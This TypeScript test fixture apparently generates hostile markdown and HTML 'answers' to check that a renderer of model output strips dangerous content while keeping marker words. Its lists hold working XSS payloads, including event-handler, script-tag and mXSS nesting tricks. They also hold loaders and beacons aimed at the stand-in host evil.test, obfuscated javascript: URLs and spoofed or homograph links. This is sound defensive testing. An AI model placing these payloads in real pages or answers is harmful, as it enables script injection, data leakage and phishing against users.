/** An answer that tries to do harm. Every word `keepN` in it has to be on the page, whatever becomes of the rest. */
export interface HostileAnswer {
    name: string;
    text: string;
}

/** Runs where a script of the model would run; the test looks for what it leaves. */
const script = "window.__harm=1";
const host = "https://evil.test";

const elements = [
    "html", "head", "body", "frameset", "frame", "noframes", "plaintext", "template", "noscript", "noembed", "xmp", "listing", "svg", "math", "script",
    "style", "title", "textarea", "select", "option", "optgroup", "object", "embed", "applet", "iframe", "form", "input", "button", "marquee", "dialog",
    "details", "video", "audio", "canvas", "base", "meta", "link", "table", "caption", "colgroup", "col", "tr", "td", "li", "dl", "ruby", "rt", "p", "h1",
    "foreignObject", "mtext", "annotation-xml", "mglyph", "desc", "slot", "portal", "image", "img", "isindex", "nobr", "font", "bgsound", "x-evil", "main", "section",
];

const places: Record<string, (tag: string) => string> = {
    "alone on a line": (tag) => `<${tag}>`,
    "open with text": (tag) => `<${tag}>keep4 text\nkeep5`,
    "closed": (tag) => `<${tag}>keep4</${tag}>`,
    "only its end": (tag) => `keep4</${tag}>keep5`,
    "in a sentence": (tag) => `keep4 <${tag}> keep5 </${tag}> keep6`,
    "in a list, a quote and a table": (tag) => `- keep4 <${tag}>\n\n> <${tag}> keep5\n\n| keep6 <${tag}> |\n|---|\n| <${tag}>keep7 |`,
    "unfinished": (tag) => `<${tag} a="keep4`,
};

const carriers = [
    `<img src=x onerror=${script}>`, `<img src=${host}/p.png>`, `<svg onload=${script}>`, `<svg><script>${script}</script></svg>`, `<script>${script}</script>`,
    `<script src=${host}/x.js></script>`, `<body onload=${script}>`, `<input autofocus onfocus=${script}>`, `<details open ontoggle=${script}>`,
    `<iframe srcdoc="<script>parent.__harm=1</script>"></iframe>`, `<iframe src=${host}></iframe>`, `<object data=${host}></object>`, `<embed src=${host}>`,
    `<link rel=stylesheet href=${host}/s.css>`, `<style>@import "${host}/s.css"; .block { display: none }</style>`, `<meta http-equiv=refresh content="0;url=${host}">`,
    `<base href=${host}>`, `<video src=${host} onerror=${script}></video>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`, `<p style="position:fixed;inset:0;background:url(${host})">keep9</p>`,
    `<a href="javascript:${script}" autofocus onfocus=${script}>keep9</a>`, `<marquee onstart=${script}>keep9</marquee>`, `<button onclick=${script} formaction=${host}>keep9</button>`,
];

const wrappers: Record<string, (payload: string) => string> = {
    "by itself": (payload) => payload,
    "in a paragraph": (payload) => `keep4 ${payload} keep5`,
    "in a list": (payload) => `1. keep4\n   ${payload}\n2. keep5`,
    "in a quote": (payload) => `> keep4\n> ${payload}`,
    "in a table": (payload) => `| keep4 |\n|---|\n| ${payload.replaceAll("|", "")} |`,
    "in a link": (payload) => `[keep4 ${payload}](https://contoso.com)`,
    "behind a comment": (payload) => `<!-- x -->${payload}\n\nkeep4`,
    "in a comment that is never closed": (payload) => `keep4\n\n<!-- ${payload}\n\nkeep5`,
    "behind a foreign end": (payload) => `</div></main></section>${payload}`,
};

const addresses = [
    `javascript:${script}`, `JaVaScRiPt:${script}`, `java\tscript:${script}`, `&#106;avascript:${script}`, `\u0001javascript:${script}`, "vbscript:x", "data:text/html,<script>parent.__harm=1</script>",
    "blob:https://evil.test/1", "command:workbench.action.quit", "vscode://a.b/c", "file:///etc/passwd", "//evil.test/x", "/etc/passwd", "http://evil.test", "ftp://evil.test",
    "https://login.microsoftonline.com@evil.test/", "https://user:word@evil.test/", "https://xn--pple-43d.com/", "https://evil.test\\@contoso.com", "about:blank", "view-source:https://a.b",
];

const links: Record<string, (address: string) => string> = {
    "as a link": (address) => `[keep4](<${address}>)`,
    "as an image": (address) => `![keep4](<${address}>)`,
    "between brackets": (address) => `keep4 <${address}>`,
    "by reference": (address) => `[keep4][r] and [r]\n\n[r]: <${address}> "title"`,
    "as a tag": (address) => `<a href="${address}" target=_top ping=${host}>keep4</a>`,
    "as an image's tag": (address) => `<img src="${address}" alt="keep4" srcset="${host}/p.png 2x">`,
};

/** Beside the payload something that must stay, before it and behind it. */
function between(name: string, payload: string): HostileAnswer {
    return { name, text: `keep1 before\n\n${payload}\n\nkeep2 behind` };
}

function product(outer: [string, string][], inner: Record<string, (part: string) => string>): HostileAnswer[] {
    return outer.flatMap(([name, part]) => Object.entries(inner).map(([place, make]) => between(`${name} ${place}`, make(part))));
}

/** What tries to run, to load, to leave its place or to look like something else: every payload in every place. */
export function disguises(): HostileAnswer[] {
    return [
        ...product(elements.map((tag) => [`<${tag}>`, tag]), places),
        ...product(carriers.map((payload) => [payload, payload]), wrappers),
        ...product(addresses.map((address) => [address, address]), links),
    ];
}
